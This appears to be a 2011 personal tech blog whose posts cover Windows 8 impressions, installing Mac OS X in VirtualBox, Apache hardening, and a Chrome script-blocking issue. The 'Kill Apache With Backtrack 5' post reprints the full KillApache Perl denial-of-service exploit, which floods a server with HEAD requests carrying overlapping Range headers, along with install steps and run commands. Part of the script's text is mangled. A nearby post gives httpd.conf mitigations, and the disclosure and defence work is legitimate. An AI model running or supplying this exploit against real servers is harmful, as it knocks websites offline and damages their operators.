Tuesday, September 13, 2011Windows 8 - First Looks

[Note: the following is a rambling of notes I jotted down quickly after viewing the new Windows 8 release.]

The Windows 8 Developer Preview was just released tonight (9/13/2011). I downloaded it, installed it in VirtualBox and played with it for a bit. My first thoughts: I don't like it one bit (for a desktop).

The one feature that I truly dislike is the use of panels. I originally thought they'd be an interesting and welcomed change for the desktop. I was wrong. They do nothing but hinder easy switching between apps and viewing of the start menu. They are big, clunky, and not suitable for a desktop at all.

The second thing that causes a major headache is the lack of familiar options. For example, to shutdown, the user has to click Start, then the "Settings" panel, the "Shut Down." This is not intuitive at all.

Finally, the color scheme is horrible. I know it can be changed, but the default teal / green is a shocking step backwards in Windows' appearance.

Check out the quick screencast:

Saturday, August 27, 2011

Installing Mac OSX Snow Leopard in Virtual Box

Before we begin, I am using Virtual Box 3.2.12 on Windows 7 and have installed Mac OS X Snow Leopard version 10.6.3. The laptop that I have installed this on is an HP dv6t with an Intel Core i5 and 6 GB of RAM. Your mileage may vary significantly. For example, Iattempted to first install OS X in VMWare, but after attempting every option and change I could find online, I decided to attempt it with Virtual Box. Also, there are a number of options that may not work if your installation does manage to complete. Regardless, here we go.

  1. An Intel-based CPU that supports virtualization (most Core i5 and Core i7 machines do, but check this site for a full list:
  2. A copy of iBoot - it can be downloaded from tonymacx86's site here: (note: free registration required)
  3. Virtual Box software from Oracle (free):
  4. A full retail version of Mac OS X. Yes, you will have to purchase this. Obviously you could probably locate an ISO online, but this guide assumes you have the disc (it's only $35 here:;qid=1314467096&sr=8-1)
  5. Patience1. Enable virtualization through your BIOS. Reboot your computer, press F12, F11, DEL, ESC, or whatever key gets you into your BIOS setup. Look for an entry called "Enable Virtualization" and enable it. If you cannot find the setting in your BIOS, you may need to locate your computer's user guide or Google it.
  2. StartVirtual Box and create a new virtual machine.
    1. Press Next, enter a name for your VM, select "Mac OS X" as the Operating System and "Mac OS X Server" as the Version.
    2. Give the VM 1024 MB of RAM
    3. Check "Boot Hard Disk" and select "Create a new hard disk"
    4. In the New Virtual Disk screen, click Next and then select "Dynamically expanding storage."
    5. Click Next and set a location for the VM. Set the disk size at 20 GB.
    6. Press Finish and Finish again
  3. Click on the VM name on the left side and click Settings
  4. Under the System tab, uncheck "Enable EFI (special OSes only)
  5. Click the "Acceleration" tab at the top, and ensure that both "Enable VT-x/AMD-v" and "Enable Nested Paging" are checked.
  6. Click the Storage tab on the left and click the disk under "IDE Controller."
  7. On the right, under Attributes, click the folder icon next to "CD/DVD Device: Empty"
  8. In the Virtual Media Manager window that appears, click "Add" and add the iBoot.iso file that you downloaded earlier.
  9. Click "Select" and click OK in the Settings window
  10. Start your virtual machine by clicking the Start button at the top
  11. iBoot will begin to load. When it loads and then pauses, insert your Mac OS X Snow Leopard DVD into your computer's disc drive.
  12. Now, right click on the CD icon at the bottom right of the VM window and change the source to your computer's disc drive.
  13. Now, click inside the VM window and press F5.
  14. iBoot will refresh, and now you will see an OS X install entry on the screen.
  15. Hit enter to begin the installation process
  16. Mac OS X will boot and you will bepresented with the installation screen. If you do not see a disk in the window that asks which disk to install the OS on, then follow these steps:
    1. Click Utilities at the top window
    2. Click Disk Utility
    3. On the left, click the only disk that should be listed (probably "VIRTUALDISK" or something similar
    4. On the right, click the "Erase" tab
    5. Enter a name for your disk volume such as "VOL1."
    6. Leave the format as "Mac OS Extended (Journaled)"
    7. Click "Erase."
    8. Now, you will have a sub-disk entry on the left.
    9. Click close on the disk utility.
  17. Select the disk in the "Install to Disk" window
  18. Allow OS X to install now. It may take an hour or so, depending on your hardware.
  19. When it is finished, it may say "Installation Failed." That's OK, it didn't really fail.
  20. Turn off your VM by clicking the X in the VM window and selecting "Power Off."
  21. Once it is turned off, click "Settings" again
  22. Click the Storage tab and click the disk under IDE Controller
  23. In the drop down menu next to "CD/DVD Device" change it to the iBoot ISO from earlier
  24. Click OK and restart your VM
  25. Now, when iBoot starts, it will have an option for "OS X Snow Leopard" or "VOL1" (your disk's name)
  26. Right arrow click to highlight your disk and hit enter
  27. OS X will nowboot and walk through the initial setup.
You will need to keep the CD ISO pointed at your iBoot file unless you want to make things complicated and install more third party utilities. So just remember to tab over and hit enter on each boot.

Issues: The resolution is stuck at 1024x768. The USB devices may not work. Shared folders may not function. Most of these issues can be resolved with additional hacks and software.


Thursday, August 25, 2011

Preventing (Mitigating) Apache Vulnerability

Last post, I discussed how to attack a vulnerable Apache server using the latest exploit. Well, some hard working developers have put together a list of mitigation techniques to prevent (reduce) this attack. I do not claim credit for the information below, it is only a walk-through on applying the fixes to your server. I can, however, confirm that, in testing, it did appear to greatly reduce (actually prevent) the attack itself. Please be aware of what these options do before you make the changes. They are quick fixes and may have a negative effect on otheraspects of your web server environment.

You can review the entire conversation thread here: As I said, this is NOT my work, I am only providing an explanation forenacting the changes, as well as a demo that it works.

First, log into your Apache server (if it hasn't been killed yet) and open up your "httpd.conf" file in vi or a another text editor. Append the following lines:

SetEnvIf Range (,.*?){5,} bad-range=1
RequestHeader unset Range env=bad-range
LimitRequestFieldSize 200
RequestHeader unset Range

*Note: please determine how these changes will affect your server and applications individually before applying them.

Save your httpd.conf file and restart the Apache service:sudo service httpd restart

Here is a screenshot of my test system after applying the changes. As you can see, the attack immediately fails:

Kill Apache With Backtrack 5

[Obligatory Warning: This post is for educational and prevention purposes only. I am not responsible if you use the information here in a malicious way. If you want to experiment with this vulnerability, please use Virtual Machines in a segregated environment. Never attack a machine that you do not own.]

A vulnerability for Apache web servers has been released yesterday (varying reports say that the bug was discovered over four years ago, but a script has just been written) on SecLists. Called "KillApache," the Perl script uses memory swapping and process killing to render the remote system unstable. The full thread can be read here at SecList:

Currently, Apache has offered several mitigation techniques and work-arounds until the next release addresses the issue. The issue is that the vulnerability affects almost all Apache servers currently in use - versions 1.3 and 2. You can read about the temporary fixes here:

Until it's fixed, I decided to try out this vulnerability using Backtrack 5 and Fedora LAMP Virtual Machines. The base install of Apache, PHP, and MySQL was not changed in any way on theFedora machine, nor were any intrusion detection or mitigation systems; it was a fresh install.

I'm going to assume that you have an Apache server already set up. There are many guides that can assist with installing Apache on Linux or Windows (as far as I know, the vulnerability affects both platforms).

The Perl script can be run from any machine with Perl installed. I am using Backtrack for penetration testing, so I saved the script there. I noticed that the default installation of Backtrack did not include a necessary Perl component called "Parallel-ForkManager." To install that, run these commands:

$ wget
$ tar -xvzf Parallel-ForkManager-0.7.9.tar.gz
$ cd Parallel-ForkManager-0.7.9
$ perl
$ make
$ sudo make install

Once that is installed, download the script from the SecList site above.In case it is removed or the link changes, the fullscript is here:

#Apache httpd Remote Denial ofService (memory exhaustion)
#By Kingcope
#Year 2011
# Will result in swapping memory to filesystem on the remote side
# plus killing of processes when running out of swap space.
# Remote System becomes unstable.

use IO::Socket;
use Parallel::ForkManager;

sub usage {print "Apache Remote Denial of Service (memory exhaustion)\n";
print "by Kingcope\n";
print "usage: perl <host> [numforks]\n";
print "example: perl 50\n";

sub killapache {
print "ATTACKING $ARGV[0] [using $numforks forks]\n";

$pm = new Parallel::ForkManager($numforks);

$p = "";
for ($k=0;$k<1300;$k++) {
$p .= ",5-$k";

for ($k=0;$k<$numforks;$k++) {
my $pid = $pm->start and next;

$x = "";
my $sock = IO::Socket::INET->new(PeerAddr => $ARGV[0],
                                 PeerPort => "80",
                      Proto    => 'tcp');

$p = "HEAD / HTTP/1.1\r\nHost: $ARGV[0]\r\nRange:bytes=0-$p\r\nAccept-Encoding: gzip\r\nConnection: close\r\n\r\n";
print $sock $p;while(<$sock>) {
print ":pPpPpppPpPPppPpppPp\n";

sub testapache {
my $sock = IO::Socket::INET->new(PeerAddr => $ARGV[0],
                                 PeerPort => "80",
                      Proto    => 'tcp');

$p = "HEAD / HTTP/1.1\r\nHost: $ARGV[0]\r\nRange:bytes=0-$p\r\nAccept-Encoding: gzip\r\nConnection: close\r\n\r\n";
print $sock $p;

$x = <$sock>;
if ($x =~ /Partial/) {
print "host seems vuln\n";
return 1;
} else {
return 0;

if ($#ARGV < 0) {

if ($#ARGV > 1) {
$numforks = $ARGV[1];
} else {$numforks = 50;}

$v = testapache();
if ($v == 0) {
print "Host does not seem vulnerable\n";
while(1) {

Once you create and save the script as, you can run it from the command line as:

$ perl <host> <num_forks>

$ perl killapache 50You will immediately notice that the attack is working if you view the system resource monitor of your remote machine. Here are some screenshots I took while running the attack against a VM:

This is the system before the attack is launched.

This is the system while the attack is running. Notice the huge spike in CPU usage.

As I said, please do not use this information maliciously. This is a serious bug because, although it will probably be addressed in the next Apache release, thousands, if not millions of servers will remain vulnerable for years until they are upgraded.

Tuesday, August 16, 2011

Move to Drupal

I've been looking for a CMS (Content Management System) for my personal website for a while now. After looking into both Drupal and Joomla, I settled on using Drupal to completely revamp my website. Aftera ton of customized theme coding, I was able to get it looking exactly the way I wanted. The advantage of having Drupal power my site is that I can now easily add content without ever having to edit the static HTML pages as I did previously. If there are any issues using the site, please let me know as I am ironing out a few issues at the moment. Thank you!

Thursday, July 28, 2011

Chrome Blocking "Insecure Scripts" from Facebook

I ran into an issue this evening while browsing on Chrome 14.0.835.2 dev-m. As I visit various pages, a new feature in Chrome (since version 12, I believe) is blocking "insecure scripts" from running. A few weeks ago, I noticed that an insecure scriptwould be blocked every couple days or so. However, tonight I was seeing the popup on almost every site I visited. I realized that this had to do with Facebook when I visited Facebook and it looked like this.
